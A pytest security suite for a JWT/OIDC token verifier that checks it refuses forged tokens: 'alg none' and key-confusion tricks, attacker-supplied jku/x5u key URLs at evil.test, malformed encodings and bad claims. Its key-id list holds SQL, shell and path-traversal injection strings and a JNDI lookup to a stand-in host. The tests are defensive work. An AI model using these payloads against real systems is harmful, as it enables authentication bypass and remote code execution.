"""Forged tokens: whatever the header asks for and however it is written, only the issuer's own signature counts."""

import json
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes
from cryptography.hazmat.primitives.asymmetric import padding

from omnigen.adapters.oidc import LEEWAY
from tests.adapters.signing import CLIENT, ISSUER, b64, jwk, private_key
from tests.security.door import Door
from tests.security.forging import (
    AT,
    HEADER,
    by_hash,
    by_stranger,
    by_us,
    joined,
    loose,
    otherwise_signed,
    payload,
    public_key_forms,
    text,
)


@pytest.fixture
def door() -> Door:
    return Door()


async def test_what_is_forged_here_is_right_but_for_its_forgery(door: Door) -> None:
    """The control: made by the same hands, with nothing wrong, a token is accepted."""
    assert await door.opens(by_us(HEADER))
    assert not await door.opens(by_stranger(HEADER))


ALGORITHMS = (
    *("none", "None", "NONE", "nOnE", "none ", "", "\x00none", "rs256", "Rs256", "RS256 ", "RS256\x00"),
    *("RS384", "RS512", "PS256", "ES256", "EdDSA", "HS256", "HS384", "HS512", "dir", "RSA-OAEP", "A256KW"),
)


@pytest.mark.parametrize("algorithm", [*ALGORITHMS, None, True, 0, ["RS256"], {"RS256": "RS256"}], ids=repr)
async def test_any_other_algorithm_is_refused_with_a_signature_and_without(
    door: Door, algorithm: Any
) -> None:
    header = {**HEADER, "alg": algorithm}
    assert not await door.opens(by_us(header))
    assert not await door.opens(joined(text(header), payload(), b""))
    assert not await door.opens(by_us({name: value for name, value in HEADER.items() if name != "alg"}))


@pytest.mark.parametrize("form", list(public_key_forms()))
@pytest.mark.parametrize(("name", "digest"), [("HS256", "sha256"), ("HS512", "sha512")])
async def test_the_public_key_is_no_shared_secret_in_any_form(
    door: Door, form: str, name: str, digest: str
) -> None:
    """The classic confusion: what everybody may know, used as an HMAC's secret."""
    secret = public_key_forms()[form]
    assert not await door.opens(by_hash(secret, {**HEADER, "alg": name}, digest=digest))
    assert not await door.opens(by_hash(secret, HEADER)), "nor under the name of the right algorithm"


CERTIFICATE = "MIIBszCCARwCAQAwDQYJKoZIhvcNAQELBQAwIjEgMB4GA1UEAwwXZXZpbC50ZXN0"
SHOWN = "the stranger's own key"
STEERING: dict[str, dict[str, Any]] = {
    "jwk": {"jwk": SHOWN},
    "jwk and another key's name": {"jwk": SHOWN, "kid": "stranger"},
    "jwk without a kid": {"jwk": SHOWN, "kid": None},
    "jku": {"jku": "https://evil.test/jwks.json"},
    "jku of the issuer's look": {"jku": f"{ISSUER}@evil.test/.well-known/jwks.json"},
    "x5u": {"x5u": "https://evil.test/chain.pem"},
    "x5c": {"x5c": [CERTIFICATE]},
    "x5t": {"x5t": "AAAA"},
    "x5t#S256": {"x5t#S256": "AAAA"},
    "crit of nothing": {"crit": []},
    "crit of exp": {"crit": ["exp"], "exp": 9_999_999_999},
    "crit of what nobody knows": {"crit": ["http://evil.test/UNDEFINED"], "http://evil.test/UNDEFINED": True},
    "crit of alg": {"crit": ["alg"]},
    "crit, no list": {"crit": "b64", "b64": True},
    "b64 false": {"b64": False, "crit": ["b64"]},
    "b64 false, not critical": {"b64": False},
    "b64 true": {"b64": True, "crit": ["b64"]},
    "zip": {"zip": "DEF"},
    "enc": {"enc": "A256GCM"},
    "epk": {"epk": SHOWN},
    "p2c": {"p2c": 2**31 - 1, "p2s": "c2FsdA"},
    "cty": {"cty": "JWT"},
    "a member of no meaning": {"hello": "world"},
}


@pytest.mark.parametrize("trick", list(STEERING))
async def test_a_header_that_brings_its_own_key_or_rules_is_refused(door: Door, trick: str) -> None:
    """Signed by a stranger, who shows the key; and by the issuer itself, for such a header has no business here."""
    given = {**HEADER, **STEERING[trick]}
    given = {name: jwk("stranger") if value == SHOWN else value for name, value in given.items()}
    header = {name: value for name, value in given.items() if value is not None}
    assert not await door.opens(by_stranger(header))
    assert not await door.opens(by_us(header))


KEY_IDS: tuple[Any, ...] = (
    *("../../../../dev/null", "/dev/null", "file:///dev/null", "..\\..\\windows\\win.ini", "first\x00.pem"),
    *("' OR '1'='1", "x' UNION SELECT 'AAAA", "first'--", "first; DROP TABLE keys", "| sleep 10 #", "$(id)"),
    *(
        "${jndi:ldap://evil.test/a}",
        "https://evil.test/key",
        "__class__",
        "__proto__",
        "*",
        "First",
        "first ",
        "",
    ),
    *("k" * 4_000, 1, 1.5, True, None, ["first"], {"kid": "first"}, "fi\u0301rst", "ﬁrst"),
)


@pytest.mark.parametrize("kid", KEY_IDS, ids=lambda kid: repr(kid)[:30])
async def test_a_key_id_is_a_name_in_the_key_set_and_nothing_else(door: Door, kid: Any) -> None:
    header = {**HEADER, "kid": kid}
    assert not await door.opens(by_us(header))
    assert not await door.opens(by_hash(b"", {**header, "alg": "HS256"})), "an empty file is an empty secret"
    assert door.fetches <= 1


def _written() -> dict[str, str]:
    """Ways to write a token whose signature is right, so that two readers would see two tokens."""
    head, body, signature = by_us(HEADER).split(".")
    right = payload()
    twice = b'{"alg":"none",' + text(HEADER)[1:]
    claims_twice = b'{"sub":"admin",' + right[1:]
    return {
        "padded header": by_us(HEADER).replace(".", "=.", 1),
        "padded body": f"{head}.{body}=.{signature}",
        "padded signature": f"{head}.{body}.{signature}==",
        "loose bits in the signature": f"{head}.{body}.{loose(signature)}",
        "line ends": f"{head}\n.{body}.{signature}",
        "a blank before": f" {head}.{body}.{signature}",
        "a blank within": f"{head}. {body}.{signature}",
        "the other alphabet": f"{head}.{body}.{signature.replace('-', '+').replace('_', '/')}+",
        "a NUL": f"{head}.{body}.{signature}\0",
        "no signature": f"{head}.{body}.",
        "no signature and no dot": f"{head}.{body}",
        "only dots": "..",
        "five parts": f"{head}.{body}.{signature}.{signature}.{signature}",
        "no body": f"{head}..{signature}",
        "no header": f".{body}.{signature}",
        "general JSON": json.dumps(
            {"payload": body, "signatures": [{"protected": head, "signature": signature}]}
        ),
        "flattened JSON": json.dumps({"payload": body, "protected": head, "signature": signature}),
        "alg twice": by_us(twice),
        "alg twice, the right one first": by_us(text(HEADER)[:-1] + b',"alg":"none"}'),
        "alg twice, once escaped": by_us(text(HEADER)[:-1] + b',"\\u0061lg":"none"}'),
        "kid twice": by_us(text(HEADER)[:-1] + b',"kid":"first"}'),
        "sub twice": by_us(HEADER, claims_twice),
        "sub twice, once escaped": by_us(HEADER, b'{"\\u0073ub":"admin",' + right[1:]),
        "a member twice deep inside": by_us(HEADER, right[:-1] + b',"x":{"y":{"z":1,"z":2}}}'),
        "another case": by_us({"ALG": "RS256", "Kid": "first"}),
        "a mark before the header": by_us(b"\xef\xbb\xbf" + text(HEADER)),
        "UTF-16": by_us(json.dumps(HEADER).encode("utf-16")),
        "UTF-16 claims": by_us(HEADER, right.decode().encode("utf-16")),
        "not UTF-8": by_us(HEADER, right[:-1] + b',"x":"\xff"}'),
        "comments": by_us(b"/* */" + text(HEADER)),
        "more behind the header": by_us(text(HEADER) + b"{}"),
        "a list": by_us(b"[" + text(HEADER) + b"]"),
        "a text": by_us(text(json.dumps(HEADER))),
        "null": by_us(b"null"),
        "claims in a list": by_us(HEADER, b"[" + right + b"]"),
        "a token in a token": by_us(HEADER, text(by_us(HEADER))),
        "depth": by_us(HEADER, b'{"x":' + b"[" * 2_500 + b"]" * 2_500 + b"}"),
        "digits": by_us(HEADER, b'{"exp":' + b"9" * 5_000 + b"}"),
        "a megabyte": f"{head}.{'a' * 1_000_000}.{signature}",
        "a megabyte of dots": "." * 1_000_000,
        "letters that are no letters": f"{head}.{body}.{signature[:-1]}\u0430",
        "half a pair": f"{head}.{body}.\ud800",
    }


@pytest.mark.parametrize("name", list(_written()))
async def test_there_is_one_way_to_write_a_token(door: Door, name: str) -> None:
    assert not await door.opens(_written()[name])


def _signatures() -> dict[str, bytes]:
    public = private_key().public_key().public_numbers()
    size = (public.n.bit_length() + 7) // 8
    right = private_key().sign(b"something else", padding.PKCS1v15(), hashes.SHA256())
    return {
        "zeros": bytes(size),
        "one": (1).to_bytes(size),
        "the modulus less one": (public.n - 1).to_bytes(size),
        "the modulus": public.n.to_bytes(size),
        "all ones": b"\xff" * size,
        "of something else": right,
        "a byte": b"\0",
        "too long": bytes(size + 1),
        "zeros before": bytes(16) + right,
        "a digest": hashes.Hash(hashes.SHA256()).finalize(),
    }


@pytest.mark.parametrize("name", list(_signatures()))
async def test_no_number_is_a_signature_by_itself(door: Door, name: str) -> None:
    assert not await door.opens(joined(text(HEADER), payload(), _signatures()[name]))


@pytest.mark.parametrize(
    ("name", "hash_", "pad"),
    [
        ("RS1", hashes.SHA1(), padding.PKCS1v15()),
        ("RS384", hashes.SHA384(), padding.PKCS1v15()),
        ("RS512", hashes.SHA512(), padding.PKCS1v15()),
        ("PS256", hashes.SHA256(), padding.PSS(padding.MGF1(hashes.SHA256()), 32)),
    ],
    ids=lambda value: value if isinstance(value, str) else "",
)
async def test_the_issuers_key_signs_in_one_way(
    door: Door, name: str, hash_: hashes.HashAlgorithm, pad: padding.AsymmetricPadding
) -> None:
    """Neither under its own name, where all of it is right, nor under the name that we take."""
    for named in (name, "RS256"):
        assert not await door.opens(otherwise_signed(named, hash_, pad))


@pytest.mark.parametrize(
    "changes",
    [
        {"iss": [ISSUER]},
        {"iss": ISSUER.upper()},
        {"iss": f"{ISSUER} "},
        {"iss": ISSUER.replace("https", "http")},
        {"iss": f"{ISSUER}#"},
        {"iss": f"{ISSUER}/../pool"},
        {"token_use": "Access"},
        {"token_use": ["access"]},
        {"token_use": "id", "aud": CLIENT, "client_id": None},
        {"token_use": "id", "aud": CLIENT},
        {"token_use": "refresh"},
        {"aud": None, "token_use": "access", "client_id": None},
        {"aud": [CLIENT]},
        {"client_id": f"{CLIENT} "},
        {"client_id": CLIENT.upper()},
        {"client_id": ""},
        {"client_id": True},
        {"sub": "u" * 129},
        {"sub": ["user-1"]},
        {"sub": {"id": "user-1"}},
        {"sub": True},
        {"exp": "never"},
        {"exp": -1},
        {"exp": 0},
        {"exp": 10**400},
        {"exp": 1e308 * 10},
        {"exp": float("nan")},
        {"exp": [9_999_999_999]},
        {"nbf": "0"},
        {"nbf": 10**400},
        {"iat": -(10**400)},
        {"iat": True},
    ],
    ids=lambda changes: str(changes)[:50],
)
async def test_claims_are_compared_to_the_letter(door: Door, changes: dict[str, Any]) -> None:
    assert not await door.opens(by_us(HEADER, payload(**changes)))


@pytest.mark.parametrize(
    ("changes", "opens"),
    [
        ({"exp": AT - LEEWAY + 1}, True),
        ({"exp": AT - LEEWAY + 0.5}, True),
        ({"exp": AT - LEEWAY}, False),
        ({"exp": AT - LEEWAY - 0.5}, False),
        ({"nbf": AT + LEEWAY}, True),
        ({"nbf": AT + LEEWAY + 0.5}, False),
        ({"iat": AT + LEEWAY}, True),
        ({"iat": AT + LEEWAY + 1}, False),
        ({"iat": None}, True),
        ({"nbf": AT - 10_000, "iat": AT - 10_000, "exp": AT + 1}, True),
    ],
    ids=str,
)
async def test_a_token_is_good_to_the_second_and_half_a_minute(
    door: Door, changes: dict[str, Any], opens: bool
) -> None:
    assert await door.opens(by_us(HEADER, payload(**changes))) is opens


async def test_the_groups_of_a_token_give_no_more_than_a_tier(door: Door) -> None:
    """Odd groups are nobody's tier; they are no error either, for another use may have them."""
    odd: tuple[Any, ...] = (
        "enterprise",
        ["Enterprise"],
        ["enterprise "],
        [["enterprise"]],
        [{"pro": 1}],
        7,
        {},
    )
    for groups in odd:
        caller = await door.verifier.verify(by_us(HEADER, payload(**{"cognito:groups": groups})))
        assert caller.tier == "free", groups


async def test_what_was_forged_is_not_remembered_as_good(door: Door) -> None:
    head, _, signature = by_us(HEADER).split(".")
    assert await door.opens(by_us(HEADER))
    for _ in range(2):
        assert not await door.opens(f"{head}.{b64(payload(sub='admin'))}.{signature}")
